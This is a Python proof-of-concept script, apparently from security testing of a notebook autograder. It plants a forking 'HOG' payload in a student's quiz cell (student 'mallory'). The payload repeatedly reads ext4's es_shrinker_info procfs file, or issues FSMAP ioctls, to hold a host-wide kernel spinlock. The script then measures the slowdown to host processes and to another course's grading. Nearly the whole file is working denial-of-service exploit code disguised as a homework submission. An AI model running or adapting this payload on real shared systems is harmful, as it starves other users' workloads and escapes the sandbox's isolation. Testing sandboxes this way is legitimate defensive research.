"""a04: a host-wide spinlock a sandbox can hold. /proc/fs/ext4/<dev>/es_shrinker_info (mode 0444, in every procfs,
the sandbox's own /proc included) walks every inode on the file system's extent-status list under
spin_lock(&sbi->s_es_lock), preemption off: on this host 1.8 M inodes, 340 ms a read. Every ext4 operation that
adds an inode to that list or takes one off (a file's extents read for the first time, a file written, an inode
evicted) spins meanwhile, and the reading CPU runs nothing else. mallory's quiz cell reads it from PROCS processes
for SECONDS. Measured: a host process's wake-up latency (1 ms sleeps), a host SQLite writer's commit times on ext4,
and the grading of another course's honest students (bob/nina/ivan) run at the same time as mallory's, against the
same run alone before."""
import sys, json, os, subprocess, time, threading, sqlite3, statistics
sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from lib import *

A = "ps1_memory"
SECONDS = int(os.environ.get("A04_SECONDS", "60"))
PROCS = int(os.environ.get("A04_PROCS", "4"))
HOG = r'''
import os, glob, time
paths = (glob.glob("/proc/bus/pci/*/*") if %(pci)d else glob.glob("/proc/fs/*/*/es_shrinker_info")) if %(spin)d == 0 and %(fsmap)d == 0 else []
print("visible:", paths, flush=True)
kids = []
for k in range(%(procs)d):
    pid = os.fork()
    if pid == 0:
        t = time.time(); n = 0; worst = 0
        while time.time() - t < %(seconds)d:
            if %(fsmap)d:
                import fcntl, struct
                fd = os.open("/usr/bin/env", os.O_RDONLY)
                head = struct.pack("=IIII6Q", 0, 0, 0, 0, *([0] * 6))
                lo = struct.pack("=IIQQQQ3Q", 0, 0, 0, 0, 0, 0, 0, 0, 0)
                hi = struct.pack("=IIQQQQ3Q", 0xffffffff, 0xffffffff, 2**64-1, 2**64-1, 2**64-1, 2**64-1, 0, 0, 0)
                buf = bytearray(head + lo + hi)
                s = time.time()
                try: fcntl.ioctl(fd, 0xc0c0583b, buf)
                except OSError as e: print("fsmap refused", e, flush=True); os._exit(0)
                os.close(fd); worst = max(worst, time.time() - s); n += 1; continue
            if not paths:
                x = 0
                for i in range(200000): x += i
                n += 1; continue
            for p in paths:
                s = time.time()
                try:
                    with open(p) as f: f.read()
                except OSError as e:
                    print("refused", p, e, flush=True); os._exit(0)
                worst = max(worst, time.time() - s); n += 1
        print("reader", k, "reads", n, "worst %%.3f s" %% worst, flush=True)
        os._exit(0)
    kids.append(pid)
for p in kids: os.waitpid(p, 0)
''' % dict(procs=PROCS, seconds=SECONDS, spin=int(os.environ.get('A04_SPIN', '0')), fsmap=int(os.environ.get('A04_FSMAP', '0')), pci=int(os.environ.get('A04_PCI', '0')))

stop = threading.Event()
def latency_probe(out):
    while not stop.is_set():
        t = time.perf_counter(); time.sleep(0.001); out.append((time.time(), time.perf_counter() - t - 0.001))

def sqlite_probe(out):
    db = "/tmp/attack44-user-a04-probe.db"
    con = sqlite3.connect(db); con.execute("create table if not exists t(x)")
    while not stop.is_set():
        t = time.perf_counter(); con.execute("insert into t values (?)", (os.urandom(64),)); con.commit()
        out.append((time.time(), time.perf_counter() - t)); time.sleep(0.05)
    con.close(); os.unlink(db)

def phase(label, lat, sq, t0, t1):
    l = [x for ts, x in lat if t0 <= ts <= t1]; s = [x for ts, x in sq if t0 <= ts <= t1]
    if l and s:
        print(f"PROBE {label}: wake-up overshoot max {max(l)*1000:.1f} ms, p99 {sorted(l)[int(len(l)*.99)]*1000:.1f} ms (n={len(l)}); "
              f"sqlite commit max {max(s)*1000:.1f} ms, median {statistics.median(s)*1000:.1f} ms (n={len(s)})", flush=True)

def other_course(tag):
    d = make_course(tag)
    for s in ("bob44u", "ivan44u", "nina44u"):
        hand_in(d, s, A, honest(A))
    return d

def times(d):
    return {r["student"]: round(r["seconds"], 1) for r in json.load(open(f"{d}/grading_report.json"))}

def build():
    nb = honest(A)
    for c in nb.cells:
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "quiz_q5":
            c.source = c.source + "\n" + HOG
    return nb

if __name__ == "__main__":
    lat, sq = [], []
    th = [threading.Thread(target=latency_probe, args=(lat,), daemon=True), threading.Thread(target=sqlite_probe, args=(sq,), daemon=True)]
    for t in th: t.start()
    # baseline: the other course alone
    b0 = other_course("a04-base" + os.environ.get("A04_SPIN", "") + os.environ.get("A04_FSMAP", "") + ("pci" if os.environ.get("A04_PCI") else "")); t0 = time.time(); grade(b0, A); t1 = time.time()
    phase("baseline (other course graded alone)", lat, sq, t0, t1)
    print("BASE other course times", times(b0)); scores(b0)
    d = make_course("a04" + os.environ.get("A04_SPIN", "") + os.environ.get("A04_FSMAP", "") + ("pci" if os.environ.get("A04_PCI") else ""))
    hand_in(d, AARON, A, honest(A)); hand_in(d, MALLORY, A, build()); hand_in(d, ZOE, A, honest(A))
    b1 = other_course("a04-other" + os.environ.get("A04_SPIN", "") + os.environ.get("A04_FSMAP", "") + ("pci" if os.environ.get("A04_PCI") else ""))
    p = grade(d, A, background=True)
    ta = time.time(); started = None; lines = []
    for line in p.stdout:
        lines.append(line)
        if "aaron44u graded" in line and started is None:
            started = time.time()
            q = grade(b1, A, background=True)  # another course graded beside mallory
            tb = time.time()
        if "graded" in line or "FAIL" in line:
            print(f"[{time.time()-ta:6.1f}s] {line.rstrip()[:150]}", flush=True)
    p.wait(); tend = time.time()
    out_b = q.communicate()[0]; tbend = time.time()
    print(f"other course graded beside mallory in {tbend - tb:.1f} s")
    phase("while mallory's readers ran (from aaron done to end)", lat, sq, started, tend)
    phase("after", lat, sq, tend, tend + 1e9)
    print("".join(lines[-12:]))
    print("ATTACK course times", times(d)); scores(d)
    print("OTHER course times (beside mallory)", times(b1)); scores(b1)
    nb = json.load(open(f"{d}/autograded/{MALLORY}/{A}/{A}.ipynb"))
    for c in nb["cells"]:
        for o in c.get("outputs", []):
            t = "".join(o.get("text", ""))
            if "visible" in t or "reader" in t: print("MALLORY OUTPUT", t[:800].replace(chr(10), " | "))
    time.sleep(5); stop.set()
